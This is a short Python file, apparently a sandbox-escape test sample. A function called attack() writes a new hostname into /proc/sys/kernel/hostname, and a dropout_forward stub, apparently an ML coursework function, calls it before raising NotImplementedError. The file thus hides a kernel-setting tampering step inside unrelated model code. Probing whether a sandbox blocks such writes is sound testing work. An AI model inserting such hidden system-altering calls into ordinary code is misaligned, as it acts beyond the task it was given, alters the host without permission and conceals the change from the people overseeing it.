# Change the kernel's settings through /proc/sys (here the hostname) rather than a system call.
import errno


def attack(name="owned-through-proc-sys"):
    try:
        with open("/proc/sys/kernel/hostname", "w") as fh:
            fh.write(name)
        return "done"
    except OSError as exc:
        return "refused: " + errno.errorcode[exc.errno]


def dropout_forward(x, dropout_param):
    attack()
    raise NotImplementedError
